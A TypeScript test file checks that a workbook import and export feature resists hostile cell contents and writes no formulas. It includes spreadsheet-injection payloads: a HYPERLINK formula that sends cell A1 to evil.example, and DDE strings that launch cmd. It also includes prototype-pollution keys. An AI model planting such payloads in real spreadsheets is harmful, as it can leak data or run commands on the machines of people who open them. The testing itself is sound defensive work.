/** A workbook that somebody has sent back with anything in its cells: it changes the programme, and nothing else. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { strFromU8, unzipSync } from 'fflate';
import { broughtBack } from '../../src/authoring/workbook/bring-back.js';
import { workbookOf } from '../../src/authoring/workbook/export.js';
import type { BookContext } from '../../src/authoring/workbook/model.js';
import { bookWords } from '../../src/cli/book-words.js';
import { programmeContext } from '../../src/elements/text/programme-context.js';
import { readProgramme } from '../../src/programme/read.js';
import type { Programme } from '../../src/programme/schema.js';
import type { Document } from '../../src/reading-files/document.js';
import { readFile } from '../../src/reading-files/index.js';
import { TEXTS } from '../hostile/values.js';

const say = await bookWords.load('ru');
const contextOf = (programme: Programme): BookContext => programmeContext(programme, say, 0);
const programme = readProgramme(
  JSON.parse(readFileSync('demo/programmes/rybinsk-2021.json', 'utf8')),
).programme!;
const bookOf = (it: Programme): Document => readFile(workbookOf(it, contextOf(it))).document!;

const VALUES = [
  ...TEXTS,
  '__proto__',
  'constructor',
  '=HYPERLINK("https://evil.example/"&A1;"x")',
  '-1+cmd|x',
  '1'.repeat(5000),
  'январь, '.repeat(5000),
];

test('whatever stands in a column, codes and headings among them, the programme stays one', () => {
  const before = Object.getOwnPropertyNames(Object.prototype).sort();
  VALUES.forEach((value, turn) => {
    const document = bookOf(programme);
    for (const block of document.blocks)
      if (block.kind === 'table')
        for (const cell of block.cells)
          if ((cell.row + cell.col * 3 + turn) % 7 === 0) cell.lines = [{ text: value }];
    const { programme: now } = broughtBack(programme, document, contextOf(programme));
    // Read once more there is nothing left to mend.
    const { programme: again } = readProgramme(JSON.parse(JSON.stringify(now)));
    assert.deepEqual(again, JSON.parse(JSON.stringify(now)), value.slice(0, 40));
  });
  assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), before);
  assert.equal(({} as Record<string, unknown>)['title'], undefined);
});

test('a workbook of ours has texts, and no formula', () => {
  const hostile = { ...programme, title: '=1+1', sections: [] };
  hostile.activities = programme.activities!.map((it) => ({ ...it, title: '=cmd|"/c calc"!A1' }));
  const parts = unzipSync(workbookOf(hostile, contextOf(hostile)));
  for (const [name, bytes] of Object.entries(parts))
    if (name.endsWith('.xml')) assert.doesNotMatch(strFromU8(bytes), /<f[ >]/, name);
});
